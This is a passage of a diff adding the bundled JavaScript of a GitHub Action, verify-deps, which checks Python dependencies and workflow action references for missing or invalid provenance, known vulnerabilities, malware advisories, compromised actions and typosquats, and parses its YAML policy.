+                reason: 'none of the locked files or hashes matches a file PyPI serves for this release'
+            });
+            return;
+        }
+        const expected = opts.policy.publishers[pin.name] ?? identities[pin.name] ?? [];
+        const withProv = locked.filter((f) => f.file.provenance);
+        if (!withProv.length) {
+            const prev = previousRelease(proj, pin.version);
+            const prevHad = prev && proj.files.some((f) => sameVersion(f.version, prev) && f.provenance);
+            if (prevHad) {
+                findings.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_PROVENANCE_REGRESSION, {
+                    message: `${d.rawName} ${pin.version} has no provenance, but ${prev} was published with attestations.`,
+                    location: depLocation(d),
+                    key: `${pin.name}@${pin.version}`,
+                    properties: { package: pin.name, version: pin.version, previous: prev }
+                }));
+            }
+            else {
+                // Informational (the rule's default) in warn mode; high when required or a publisher is expected.
+                findings.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_PROVENANCE_MISSING, {
+                    severity: expected.length || opts.provenance === 'require' ? 'high' : undefined,
+                    message: `${d.rawName} ${pin.version} has no PEP 740 provenance${expected.length ? ', although an expected publisher is configured' : ''}.`,
+                    location: depLocation(d),
+                    key: `${pin.name}@${pin.version}`,
+                    properties: { package: pin.name, version: pin.version }
+                }));
+            }
+            return;
+        }
+        let v;
+        try {
+            v = await getVerifier();
+        }
+        catch (e) {
+            verifierError ??= (0,src/* oneLine */.TN)(e);
+            notChecked.push({ check: 'provenance', target, reason: `no Sigstore trust material: ${verifierError}` });
+            return;
+        }
+        for (const { file, sha256 } of withProv) {
+            let prov;
+            try {
+                prov = await pypi.provenance(file.provenance);
+            }
+            catch (e) {
+                notChecked.push({ check: 'provenance', target: file.filename, reason: (0,src/* oneLine */.TN)(e) });
+                continue;
+            }
+            if (!prov) {
+                notChecked.push({
+                    check: 'provenance',
+                    target: file.filename,
+                    reason: 'the index advertised provenance but the Integrity API has none'
+                });
+                continue;
+            }
+            let verdict;
+            try {
+                verdict = await v.verify(prov, { filename: file.filename, sha256 }, expected);
+            }
+            catch (e) {
+                notChecked.push({
+                    check: 'provenance',
+                    target: file.filename,
+                    reason: `verification failed to run: ${(0,src/* oneLine */.TN)(e)}`
+                });
+                continue;
+            }
+            const props = { package: pin.name, version: pin.version, file: file.filename };
+            if (verdict.status === 'invalid') {
+                findings.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_PROVENANCE_INVALID, {
+                    message: `The provenance of ${file.filename} does not verify: ${verdict.reason}.`,
+                    location: depLocation(d),
+                    key: `${file.filename}`,
+                    properties: props
+                }));
+            }
+            else if (verdict.status === 'publisher-mismatch') {
+                const claimed = prov.attestation_bundles.map((b) => claimedPublisher(b.publisher)).find(Boolean);
+                findings.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_PUBLISHER_MISMATCH, {
+                    message: `${file.filename} was signed by ${verdict.identity}: ${verdict.reason}.${!expected.length && claimed ? ` (PyPI names ${claimed.repository} as its publisher.)` : ''}`,
+                    location: depLocation(d),
+                    key: `${file.filename}`,
+                    properties: { ...props, identity: verdict.identity }
+                }));
+            }
+        }
+    });
+    const trustBuilds = verifier
+        ? await verifier.then((c) => c.builds, () => 0)
+        : 0;
+    return { findings, notChecked, trustBuilds };
+}
+const sameVersion = (a, b) => a !== undefined && (a === b || (isPep440(a) && isPep440(b) && comparePep440(a, b) === 0));
+/** The highest release below `version` (PEP 440 order), ignoring pre-releases of other lines. */
+function previousRelease(proj, version) {
+    if (!isPep440(version))
+        return undefined;
+    const versions = [...new Set(proj.files.map((f) => f.version).filter((v) => !!v && isPep440(v)))];
+    return versions
+        .filter((v) => comparePep440(v, version) < 0)
+        .sort(comparePep440)
+        .pop();
+}
+/**
+ * The files of the release the lock would install, with the digest to check:
+ * the lock's own (it is what the installer enforces), else the index's.
+ */
+function lockedFiles(d, releaseFiles) {
+    const lockedNames = new Map((d.files ?? []).filter((f) => f.filename).map((f) => [f.filename, f]));
+    const lockedDigests = new Set(d.hashes.filter((h) => h.startsWith('sha256:')).map((h) => h.slice(7)));
+    const out = [];
+    for (const f of releaseFiles) {
+        const lf = lockedNames.get(f.filename);
+        const lockDigest = lf?.hashes.find((h) => h.startsWith('sha256:'))?.slice(7);
+        if (lf)
+            out.push({ file: f, sha256: lockDigest ?? f.sha256 ?? '' });
+        else if (!lockedNames.size && f.sha256 && (lockedDigests.size === 0 || lockedDigests.has(f.sha256)))
+            out.push({ file: f, sha256: f.sha256 });
+    }
+    return out.filter((x) => x.sha256);
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/engine.ts
+// verify-deps engine: a pure function over the files it is given and the
+// services injected into it (GitHub, OSV, PyPI, a Sigstore verifier). Every
+// check that cannot run says so as "not checked"; none reads as passed.
+
+
+
+
+
+
+const engine_CHECKS = ['pinning', 'vulnerabilities', 'provenance', 'typosquats', 'actions'];
+const depKey = (d) => `${d.name}@${d.version ?? d.specifier}|${d.vcs?.commit ?? d.vcs?.ref ?? ''}|${d.url ?? d.path ?? ''}`;
+function parsePython(files) {
+    const manifests = [];
+    const errors = [];
+    for (const f of files) {
+        try {
+            manifests.push((0,src/* parsePythonFile */.SI)(f.text, f.path));
+        }
+        catch (e) {
+            errors.push((0,src/* oneLine */.TN)(e));
+        }
+    }
+    return { manifests, errors };
+}
+function offlineFindings(manifests, refs, opts) {
+    const out = [];
+    if (opts.checks.has('pinning')) {
+        for (const m of manifests)
+            out.push(...checkPinning(m));
+        out.push(...checkNoLock(manifests));
+    }
+    if (opts.checks.has('typosquats'))
+        out.push(...checkTyposquats(manifests, opts.policy));
+    if (opts.checks.has('actions'))
+        out.push(...checkActionForm(refs, opts.policy));
+    return out;
+}
+async function verifyDeps(input, opts, services = {}) {
+    const py = parsePython(input.python);
+    const act = parseActionFiles(input.actions);
+    const errors = [...py.errors, ...act.errors];
+    const notChecked = [];
+    const notes = [];
+    let findings = offlineFindings(py.manifests, act.refs, opts);
+    let manifests = py.manifests;
+    let refs = act.refs;
+    if (input.base) {
+        // PR mode: findings that already exist at the base are not the PR's; online checks only look at what changed.
+        const basePy = parsePython(input.base.python);
+        const baseAct = parseActionFiles(input.base.actions);
+        const baseFingerprints = new Set(offlineFindings(basePy.manifests, baseAct.refs, opts).map((f) => f.fingerprint));
+        findings = findings.filter((f) => !baseFingerprints.has(f.fingerprint));
+        const baseDeps = new Set(basePy.manifests.flatMap((m) => m.dependencies.map(depKey)));
+        const baseUses = new Set(baseAct.refs.map((u) => `${u.raw}#${u.comment ?? ''}`));
+        manifests = manifests.map((m) => ({ ...m, dependencies: m.dependencies.filter((d) => !baseDeps.has(depKey(d))) }));
+        refs = refs.filter((u) => !baseUses.has(`${u.raw}#${u.comment ?? ''}`));
+        notes.push(`PR mode: ${manifests.reduce((n, m) => n + m.dependencies.length, 0)} Python dependencies and ${refs.filter((u) => u.kind !== 'local').length} action references are new or changed since the base; only those were checked online.`);
+    }
+    notes.push(...condaNotCovered(manifests));
+    const pins = collectPins(manifests);
+    const actionRefs = refs.filter((u) => u.kind !== 'local');
+    const network = (check, what) => notChecked.push({ check, reason: `offline: ${what} needs the network` });
+    // GitHub: pinned actions (impostor, comment, IOC, nested).
+    let actionVersions = new Map();
+    if (opts.checks.has('actions')) {
+        if (opts.offline) {
+            for (const u of actionRefs) {
+                // Known-compromised commits need no network: the list ships with the action.
+                if (u.kind !== 'docker' && u.ref && src/* FULL_SHA */.RG.test(u.ref))
+                    findings.push(...(await checkActionsOnline([u], iocOnlyApi, { nested: false })).findings.filter((f) => f.ruleId === src_rules_RULES.COMPROMISED_ACTION.id));
+            }
+            if (actionRefs.some((u) => u.ref && src/* FULL_SHA */.RG.test(u.ref)))
+                network('actions', 'resolving version comments, impostor commits and nested actions through the GitHub API');
+        }
+        else if (!services.github) {
+            if (actionRefs.length)
+                notChecked.push({
+                    check: 'actions',
+                    reason: services.githubMissing ??
+                        'no GitHub token: version comments, impostor commits and nested actions not checked'
+                });
+        }
+        else {
+            const r = await checkActionsOnline(actionRefs, services.github, { nested: opts.nested ?? true });
+            findings.push(...r.findings);
+            notChecked.push(...r.notChecked);
+            actionVersions = r.versions;
+        }
+    }
+    // OSV: PyPI pins and GitHub Actions, one batch.
+    let advisories = 0;
+    let trustBuilds = 0;
+    if (opts.checks.has('vulnerabilities')) {
+        const targets = pins.map((p) => ({ ecosystem: 'PyPI', name: p.name, versions: [p.version] }));
+        const actionTargets = actionTargetsOf(actionRefs, actionVersions, opts.checks.has('actions') && !opts.offline && !!services.github);
+        targets.push(...actionTargets.map((t) => t.target));
+        if (!targets.length) {
+            // nothing to look up
+        }
+        else if (opts.offline)
+            network('vulnerabilities', 'the OSV lookup');
+        else if (!services.osv)
+            notChecked.push({ check: 'vulnerabilities', reason: 'no OSV client' });
+        else {
+            try {
+                const r = await lookupVulnerabilities(services.osv, targets, opts.concurrency ?? 16);
+                advisories = r.advisories;
+                for (const p of r.problems)
+                    notChecked.push({
+                        check: p.target.ecosystem === 'PyPI' ? src_rules_RULES.PY_VULNERABLE.id : src_rules_RULES.VULNERABLE_ACTION.id,
+                        target: `${p.target.name}${p.target.versions.length ? `@${p.target.versions.join(',')}` : ''}`,
+                        reason: p.reason
+                    });
+                for (const h of r.hits)
+                    findings.push(h.target.ecosystem === 'PyPI' ? pyVulnFinding(h, pins) : actionVulnFinding(h, actionTargets));
+            }
+            catch (e) {
+                notChecked.push({ check: 'vulnerabilities', reason: `OSV lookup failed: ${(0,src/* oneLine */.TN)(e)}` });
+            }
+        }
+    }
+    // PyPI: yanked, cooldown, provenance (and its regression).
+    const wantYanked = opts.checks.has('vulnerabilities');
+    const wantProvenance = opts.checks.has('provenance') && opts.provenance !== 'off';
+    const wantCooldown = opts.policy.cooldownDays > 0;
+    const registryPins = pins.filter((p) => p.deps.some((d) => !d.vcs && !d.url && !d.path));
+    if (registryPins.length && (wantYanked || wantProvenance || wantCooldown)) {
+        if (opts.offline)
+            network(wantProvenance ? 'provenance' : 'vulnerabilities', 'reading PyPI (yanked releases, provenance, release age)');
+        else if (!services.pypi)
+            notChecked.push({ check: 'provenance', reason: 'no PyPI client' });
+        else {
+            const r = await checkPyPI(registryPins, manifests, opts, { pypi: services.pypi, verifier: services.verifier }, { wantYanked, wantProvenance, wantCooldown });
+            findings.push(...r.findings);
+            notChecked.push(...r.notChecked);
+            trustBuilds = r.trustBuilds;
+        }
+    }
+    const count = manifests.reduce((n, m) => n + m.dependencies.length, 0) + actionRefs.length;
+    return {
+        rules: src_rules_REGISTRY.list(),
+        findings,
+        suppressions: opts.policy.ignores,
+        errors,
+        notChecked,
+        notes,
+        count,
+        stats: {
+            'Python files': input.python.length,
+            'workflow and action files': input.actions.length,
+            'Python dependencies': manifests.reduce((n, m) => n + m.dependencies.length, 0),
+            'action references': actionRefs.length,
+            ...(advisories ? { 'OSV advisories read': advisories } : {}),
+            ...(trustBuilds ? { 'Sigstore trust material builds': trustBuilds } : {})
+        }
+    };
+}
+/** An ActionsApi that knows nothing: only the shipped indicators are consulted. */
+const iocOnlyApi = {
+    refs: () => Promise.reject(new Error('offline')),
+    compare: () => Promise.reject(new Error('offline')),
+    file: () => Promise.reject(new Error('offline'))
+};
+function collectPins(manifests) {
+    const pins = new Map();
+    for (const m of manifests) {
+        for (const d of m.dependencies) {
+            if (!d.version)
+                continue;
+            const k = `${d.name}@${d.version}`;
+            if (!pins.has(k))
+                pins.set(k, { name: d.name, version: d.version, deps: [] });
+            pins.get(k).deps.push(d);
+        }
+    }
+    return [...pins.values()];
+}
+function actionTargetsOf(refs, versions, resolved) {
+    const byRepo = new Map();
+    for (const u of refs) {
+        if (u.kind !== 'action' && u.kind !== 'reusable-workflow')
+            continue;
+        const name = `${u.owner}/${u.repo}`.toLowerCase();
+        let vs = [];
+        if (u.ref && src/* FULL_SHA */.RG.test(u.ref)) {
+            if (!resolved)
+                continue; // without the tags a SHA carries there is nothing to match
+            vs = versions.get(`${name}@${u.ref}`.toLowerCase()) ?? [];
+        }
+        else if (u.ref)
+            vs = [u.ref];
+        const k = `${name}#${vs.join(',')}`;
+        if (!byRepo.has(k))
+            byRepo.set(k, { target: { ecosystem: 'GitHub Actions', name, versions: vs }, refs: [] });
+        byRepo.get(k).refs.push(u);
+    }
+    return [...byRepo.values()];
+}
+/** `advisories` (the id and its aliases) is what a policy `ignore` entry's `id` matches. */
+function advisoryProps(rec, pkg) {
+    const aliases = rec.aliases ?? [];
+    return { advisory: rec.id, aliases, advisories: [rec.id, ...aliases], package: pkg };
+}
+function pyVulnFinding(h, pins) {
+    const pin = pins.find((p) => p.name === h.target.name && p.version === h.version);
+    const d = pin.deps[0];
+    const malicious = h.record.id.startsWith('MAL-');
+    const rule = malicious ? src_rules_RULES.PY_MALICIOUS : src_rules_RULES.PY_VULNERABLE;
+    const also = pin.deps.length > 1 ? ` Also pinned in ${[...new Set(pin.deps.slice(1).map((x) => x.file))].join(', ')}.` : '';
+    return (0,src/* createFinding */.uP)(rule, {
+        severity: malicious ? undefined : advisorySeverity(h.record),
+        message: `${d.rawName} ${h.version} is ${malicious ? 'known malware' : 'affected by'} ${h.record.id}${h.record.aliases?.length ? ` (${h.record.aliases.join(', ')})` : ''}${h.record.summary ? `: ${h.record.summary}` : ''}.${h.fixed.length ? ` Fixed in ${h.fixed.join(', ')}.` : ''}${also}`,
+        location: depLocation(d),
+        key: `${d.name}@${h.version}:${h.record.id}`,
+        remediation: malicious
+            ? undefined
+            : h.fixed.length
+                ? `Update ${d.rawName} to ${h.fixed[0]} or later (https://osv.dev/vulnerability/${h.record.id}).`
+                : `No fixed version is known: see https://osv.dev/vulnerability/${h.record.id} and remove or replace ${d.rawName}.`,
+        properties: { ...advisoryProps(h.record, d.name), version: h.version, fixed: h.fixed }
+    });
+}
+function actionVulnFinding(h, targets) {
+    const t = targets.find((x) => x.target === h.target);
+    const u = t.refs[0];
+    const compromised = /compromis|malicious/i.test(`${h.record.summary ?? ''} ${h.record.details ?? ''}`);
+    return (0,src/* createFinding */.uP)(compromised ? src_rules_RULES.COMPROMISED_ACTION : src_rules_RULES.VULNERABLE_ACTION, {
+        severity: compromised ? undefined : advisorySeverity(h.record),
+        message: `\`${h.target.name}\` ${h.version} is affected by ${h.record.id}${h.record.summary ? `: ${h.record.summary}` : ''}.${h.fixed.length ? ` Fixed in ${h.fixed.join(', ')}.` : ''}${t.refs.length > 1 ? ` (${t.refs.length} references)` : ''}`,
+        location: { file: u.file, line: u.line, column: u.column },
+        evidence: u.raw,
+        key: `${h.target.name}@${h.version}:${h.record.id}`,
+        properties: { ...advisoryProps(h.record, h.target.name), version: h.version, fixed: h.fixed }
+    });
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/policy.ts
+// The verify-deps policy: the `verify-deps:` section of the shared config
+// file, or a separate YAML file named by the `policy` input (the file wins
+// key by key). Parsed here with errors naming file and line.
+
+const EMPTY_POLICY = {
+    publishers: {},
+    allowTags: [],
+    ignores: [],
+    cooldownDays: 0,
+    typosquatAllow: new Set()
+};
+const KEYS = ['provenance', 'publishers', 'allow-tags', 'ignore', 'cooldown-days', 'typosquat-allow'];
+const SEVERITIES = ['info', 'low', 'medium', 'high', 'critical'];
+/** Reads a policy from plain data (already parsed); `where(path)` gives a line for errors. */
+function policyFromData(data, file, lineOf) {
+    const fail = (path, msg) => (0,src/* fileError */.zS)(file, lineOf(path), `${path.join('.')}: ${msg}`);
+    const policy = { publishers: {}, allowTags: [], ignores: [], cooldownDays: 0, typosquatAllow: new Set() };
+    if (data === null || data === undefined)
+        return policy;
+    if (typeof data !== 'object' || Array.isArray(data))
+        throw (0,src/* fileError */.zS)(file, 1, 'the policy must be a mapping');
+    const d = data;
+    for (const k of Object.keys(d))
+        if (!KEYS.includes(k))
+            throw fail([k], `unknown key (allowed: ${KEYS.join(', ')})`);
+    const pubs = d.publishers ?? {};
+    if (typeof pubs !== 'object' || Array.isArray(pubs))
+        throw fail(['publishers'], 'must map package names to publishers');
+    for (const [pkg, v] of Object.entries(pubs)) {
+        const list = Array.isArray(v) ? v : [v];
+        policy.publishers[(0,src/* normalizeName */.Pc)(pkg)] = list.map((p, i) => {
+            if (!p || typeof p !== 'object')
+                throw fail(['publishers', pkg, i], 'must be a mapping with kind and repository');
+            const e = p;
+            for (const k of Object.keys(e))
+                if (!['kind', 'repository', 'workflow', 'environment'].includes(k))
+                    throw fail(['publishers', pkg, k], 'unknown key (kind, repository, workflow, environment)');
+            if (typeof e.repository !== 'string' || !e.repository)
+                throw fail(['publishers', pkg], "needs 'repository' (owner/name or the GitLab project path)");
+            return {
+                kind: typeof e.kind === 'string' ? e.kind : 'GitHub',
+                repository: e.repository,
+                workflow: e.workflow,
+                environment: e.environment
+            };
+        });
+    }
+    const tags = d['allow-tags'] ?? [];
+    if (!Array.isArray(tags))
+        throw fail(['allow-tags'], 'must be a list of owners or {owner, severity}');
+    policy.allowTags = tags.map((t, i) => {
+        if (typeof t === 'string')
+            return { owner: t.toLowerCase(), severity: 'low' };
+        const o = t;
+        if (typeof o?.owner !== 'string')
+            throw fail(['allow-tags', i], "needs 'owner'");
+        const sev = o.severity ?? 'low';
+        if (!SEVERITIES.includes(String(sev)))
+            throw fail(['allow-tags', i, 'severity'], `must be one of ${SEVERITIES.join(', ')}`);
+        return { owner: o.owner.toLowerCase(), severity: sev };
+    });
+    const ign = d.ignore ?? [];
+    if (!Array.isArray(ign))
+        throw fail(['ignore'], 'must be a list');
+    policy.ignores = ign.map((x, i) => {
+        const o = (x ?? {});
+        for (const k of Object.keys(o))
+            if (!['id', 'rule', 'package', 'reason', 'expires'].includes(k))
+                throw fail(['ignore', i, k], 'unknown key (id, rule, package, reason, expires)');
+        if (typeof o.reason !== 'string' || o.reason.trim().length < 5)
+            throw fail(['ignore', i], "needs a 'reason' (at least 5 characters)");
+        if (!o.id && !o.rule && !o.package)
+            throw fail(['ignore', i], "needs 'id', 'rule' or 'package'");
+        const expires = o.expires instanceof Date ? o.expires.toISOString().slice(0, 10) : o.expires;
+        if (expires !== undefined && !(0,src/* isCalendarDate */.tf)(String(expires)))
+            throw fail(['ignore', i, 'expires'], `'${String(expires)}' is not a real date (YYYY-MM-DD)`);
+        const properties = {};
+        if (o.id)
+            properties.advisories = String(o.id);
+        if (o.package !== undefined && o.package !== '')
+            properties.package = String(o.package);
+        return {
+            ...(o.rule ? { rule: String(o.rule) } : {}),
+            ...(Object.keys(properties).length ? { properties } : {}),
+            reason: o.reason,
+            expires,
+            source: `${file}:${lineOf(['ignore', i]) ?? 1}`
+        };
+    });
+    const cd = d['cooldown-days'] ?? 0;
+    if (typeof cd !== 'number' || !Number.isInteger(cd) || cd < 0)
+        throw fail(['cooldown-days'], 'must be a whole number of days');
+    policy.cooldownDays = cd;
+    const allow = d['typosquat-allow'] ?? [];
+    if (!Array.isArray(allow) || allow.some((a) => typeof a !== 'string'))
+        throw fail(['typosquat-allow'], 'must be a list of package names');
+    policy.typosquatAllow = new Set(allow.map(src/* normalizeName */.Pc));
+    if (d.provenance !== undefined) {
+        if (!['require', 'warn', 'off'].includes(String(d.provenance)))
+            throw fail(['provenance'], 'must be require, warn or off');
+        policy.provenance = d.provenance;
+    }
+    return policy;
+}
+/** Parses a policy YAML file (same keys as the config section). */
+function parsePolicyFile(text, file) {
+    const y = (0,src/* parseYamlFile */.BU)(text, file);
+    const data = y.doc.toJS();
+    return policyFromData(data, file, (path) => {
+        const node = y.doc.getIn(path, true);
+        return node?.range ? y.lineCounter.linePos(node.range[0]).line : undefined;
+    });
+}
+/** The policy file's entries win; lists are concatenated. */
+function mergePolicies(base, over) {
+    return {
+        publishers: { ...base.publishers, ...over.publishers },
+        allowTags: [...over.allowTags, ...base.allowTags],
+        ignores: [...base.ignores, ...over.ignores],
+        cooldownDays: over.cooldownDays || base.cooldownDays,
+        typosquatAllow: new Set([...base.typosquatAllow, ...over.typosquatAllow]),
+        provenance: over.provenance ?? base.provenance
+    };
+}
+const STRICTNESS = ['off', 'warn', 'require'];
+/** The stricter of two provenance modes: a repository's config can demand `require`, a workflow cannot weaken it. */
+function stricterProvenance(a, b) {
+    return b && STRICTNESS.indexOf(b) > STRICTNESS.indexOf(a) ? b : a;
+}
+
+// EXTERNAL MODULE: external "node:worker_threads"
+var external_node_worker_threads_ = __nccwpck_require__(5919);
+;// CONCATENATED MODULE: ./actions/verify-deps/src/pool.ts
+// Provenance verification is CPU-bound (about 20 ms per attestation in
+// @sigstore/verify), so a large lock is verified on worker threads: each
+// builds the trust material once and verifies the files it is sent. The
+// bundle is its own worker script (index.ts starts workerMain off the main thread).
+
+
+
+const WORKER_ROLE = 'verify-deps-provenance';
+/** Runs in a worker thread: verify what the main thread sends. */
+function workerMain() {
+    if (!parentPort || workerData?.role !== WORKER_ROLE)
+        return;
+    const port = parentPort;
+    let verifier;
+    let setupError;
+    try {
+        verifier = new BundleVerifier(parseTrustedRoot(workerData.root, 'trusted root'));
+    }
+    catch (e) {
+        setupError = e.message;
+    }
+    port.on('message', (job) => {
+        if (!verifier)
+            return port.postMessage({ id: job.id, error: setupError });
+        try {
+            port.postMessage({ id: job.id, verdict: verifyProvenance(verifier, job.prov, job.file, job.expected) });
+        }
+        catch (e) {
+            port.postMessage({ id: job.id, error: e.message });
+        }
+    });
+}
+/** A pool of `size` workers running `script` (the bundle), each with the trusted root given as JSON text. */
+function startPool(script, rootJson, size) {
+    const pending = new Map();
+    const workers = Array.from({ length: size }, () => {
+        const w = new external_node_worker_threads_.Worker(script, { workerData: { role: WORKER_ROLE, root: rootJson } });
+        w.unref();
+        w.on('message', (m) => {
+            const p = pending.get(m.id);
+            pending.delete(m.id);
+            if (m.verdict)
+                p?.resolve(m.verdict);
+            else
+                p?.reject(new Error(m.error ?? 'verification worker failed'));
+        });
+        // A worker that dies (or never was one) fails what it held: "not checked", never a hang.
+        const failAll = (e) => {
+            for (const p of pending.values())
+                p.reject(e);
+            pending.clear();
+        };
+        w.on('error', failAll);
+        w.on('exit', (code) => failAll(new Error(`verification worker exited (${code})`)));
+        return w;
+    });
+    let next = 0;
+    return {
+        builds: size,
+        verify(prov, file, expected) {
+            const id = next++;
+            return new Promise((resolve, reject) => {
+                pending.set(id, { resolve, reject });
+                workers[id % size].postMessage({ id, prov, file, expected });
+            });
+        },
+        async close() {
+            await Promise.all(workers.map((w) => w.terminate()));
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/config.schema.json
+const verify_deps_config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","title":"The \'verify-deps\' section of .github/security-actions.yml","description":"Settings of verify-deps (docs/verify-deps.md): its policy; a file named by its `policy` input takes the same keys.","type":"object","additionalProperties":false,"properties":{"provenance":{"description":"Provenance mode for this repository; the stricter of this and the action input applies.","enum":["require","warn","off"]},"publishers":{"description":"Expected Trusted Publisher per package (PEP 503 name): one or a list.","type":"object","additionalProperties":{"anyOf":[{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}},{"type":"array","items":{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}}}]}},"allow-tags":{"description":"Owners whose actions may be pinned to a tag, reported at a lower severity.","type":"array","items":{"anyOf":[{"type":"string"},{"type":"object","additionalProperties":false,"required":["owner"],"properties":{"owner":{"type":"string"},"severity":{"enum":["info","low","medium","high","critical"]}}}]}},"ignore":{"description":"Advisories, rules or packages to suppress, each with a reason and an optional expiry (YYYY-MM-DD).","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["id"]},{"required":["rule"]},{"required":["package"]}],"properties":{"id":{"type":"string"},"rule":{"type":"string"},"package":{"type":"string"},"reason":{"type":"string","minLength":5},"expires":{"type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"cooldown-days":{"description":"Minimum age in days of a locked release (0: off).","type":"integer","minimum":0},"typosquat-allow":{"description":"Direct dependencies never reported as typosquats.","type":"array","items":{"type":"string"}}}}');
+;// CONCATENATED MODULE: ./actions/verify-deps/src/main.ts
+// verify-deps adapter: read inputs, collect the files, build the clients,
+// call the engine.
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/** Files named by `-r`/`-c` in requirements files, followed (inside the root) so nothing they pin escapes the checks. */
+function includesOf(file) {
+    if ((0,src/* pythonFileKind */.lN)(file.path) !== 'requirements')
+        return [];
+    return (0,src/* logicalLines */.Nj)(file.text)
+        .map((l) => /^(?:-r|-c|--requirement|--constraint)(?:\s+|=)(\S+)/.exec(l.text)?.[1])
+        .filter((x) => !!x && !/^[a-z]+:\/\//i.test(x))
+        .map((x) => external_node_path_.posix.normalize(external_node_path_.posix.join(external_node_path_.posix.dirname(file.path), x)));
+}
+async function collectFiles(root, globs) {
+    const { workflows, actions } = await (0,src/* discoverWorkflowFiles */.CX)(root);
+    let pyPaths = await (0,src/* findFiles */.lY)(root, (p) => Boolean((0,src/* pythonFileKind */.lN)(p)));
+    let actionPaths = [...workflows, ...actions];
+    if (globs.length) {
+        const match = picomatch_default()(globs, { dot: true });
+        pyPaths = pyPaths.filter((p) => match(p));
+        actionPaths = actionPaths.filter((p) => match(p));
+    }
+    const errors = [];
+    const read = async (p) => {
+        try {
+            return { path: p, text: await (0,promises_.readFile)((0,external_node_path_.resolve)(root, p), 'utf8') };
+        }
+        catch (e) {
+            errors.push(`${p}: cannot read (${e.code ?? 'error'})`);
+            return undefined;
+        }
+    };
+    const python = (await Promise.all(pyPaths.map(read))).filter((f) => !!f);
+    const seen = new Set(pyPaths);
+    for (let i = 0; i < python.length; i++) {
+        for (const inc of includesOf(python[i])) {
+            if (seen.has(inc) || inc.startsWith('..'))
+                continue;
+            seen.add(inc);
+            const f = await read(inc);
+            if (f)
+                python.push(f);
+        }
+    }
+    const actionFiles = (await Promise.all(actionPaths.map(read))).filter((f) => !!f);
+    return { python, actions: actionFiles, errors };
+}
+/** The same files at a base commit (PR mode); a file the PR adds has no base version. */
+async function filesAtBase(root, base, files) {
+    const git = (0,external_node_util_.promisify)(external_node_child_process_namespaceObject.execFile);
+    try {
+        await git('git', ['rev-parse', '--verify', '--quiet', `${base}^{commit}`], { cwd: root });
+    }
+    catch {
+        throw new src/* UserError */.yo(`Input 'diff-base': '${base}' is not a commit in ${root} (fetch it first, e.g. actions/checkout with fetch-depth: 0).`);
+    }
+    const prefix = (await git('git', ['rev-parse', '--show-prefix'], { cwd: root })).stdout.trim();
+    const at = async (f) => {
+        try {
+            return {
+                path: f.path,
+                text: (await git('git', ['show', `${base}:${prefix}${f.path}`], { cwd: root, maxBuffer: 64 * 1024 * 1024 }))
+                    .stdout
+            };
+        }
+        catch {
+            return undefined;
+        }
+    };
+    const keep = (l) => l.filter((f) => !!f);
+    return {
+        python: keep(await Promise.all(files.python.map(at))),
+        actions: keep(await Promise.all(files.actions.map(at)))
+    };
+}
+function parseChecks(list) {
+    if (!list.length || list.includes('all'))
+        return new Set(engine_CHECKS);
+    for (const c of list) {
+        if (!engine_CHECKS.includes(c))
+            throw new src/* UserError */.yo(`Input 'checks' must list ${engine_CHECKS.join(', ')} or all; got '${c}'.`);
+    }
+    return new Set(list);
+}
+/** The GitHub calls the actions checks need, over Octokit. */
+function githubActionsApi(client) {
+    const { rest } = client;
+    const listRefs = async (owner, repo, ns) => {
+        const refs = (await rest.paginate(rest.rest.git.listMatchingRefs, { owner, repo, ref: ns, per_page: 100 }));
+        return Promise.all(refs.map(async (r) => {
+            let sha = r.object.sha;
+            // Annotated tags point at a tag object; the commit is one level down.
+            if (r.object.type === 'tag')
+                sha = (await rest.rest.git.getTag({ owner, repo, tag_sha: sha })).data.object.sha;
+            return { name: r.ref.replace(/^refs\/(heads|tags)\//, ''), sha };
+        }));
+    };
+    return {
+        async refs(owner, repo) {
+            try {
+                const [repoInfo, branches, tags] = await Promise.all([
+                    rest.rest.repos.get({ owner, repo }),
+                    listRefs(owner, repo, 'heads'),
+                    listRefs(owner, repo, 'tags')
+                ]);
+                return { branches, tags, defaultBranch: repoInfo.data.default_branch };
+            }
+            catch (e) {
+                throw new Error((0,src/* describeApiError */.gg)(e, 'contents: read'));
+            }
+        },
+        async compare(owner, repo, base, head) {
+            try {
+                const r = await rest.rest.repos.compareCommitsWithBasehead({
+                    owner,
+                    repo,
+                    basehead: `${base}...${head}`,
+                    per_page: 1
+                });
+                return r.data.status;
+            }
+            catch (e) {
+                if (e.status === 404)
+                    return 'missing';
+                throw new Error((0,src/* describeApiError */.gg)(e));
+            }
+        },
+        async file(owner, repo, path, ref) {
+            try {
+                const r = await rest.rest.repos.getContent({ owner, repo, path, ref });
+                const data = r.data;
+                if (Array.isArray(r.data) || data.type !== 'file' || typeof data.content !== 'string')
+                    return undefined;
+                return Buffer.from(data.content, data.encoding || 'base64').toString('utf8');
+            }
+            catch (e) {
+                if (e.status === 404)
+                    return undefined;
+                throw new Error((0,src/* describeApiError */.gg)(e, 'contents: read'));
+            }
+        }
+    };
+}
+/**
+ * The trusted root (a file, or the public-good root over TUF), built into a
+ * verifier once: on worker threads when running from the bundle on a machine
+ * with several cores, else in this thread.
+ */
+async function provenanceChecker(file, tufCache) {
+    let text;
+    if (file) {
+        try {
+            text = await (0,promises_.readFile)(file, 'utf8');
+        }
+        catch (e) {
+            throw new src/* UserError */.yo(`trusted-root: cannot read ${file} (${e.code ?? 'error'})`);
+        }
+    }
+    else {
+        text = JSON.stringify(protobuf_specs_dist.TrustedRoot.toJSON(await fetchTrustedRoot(tufCache)));
+    }
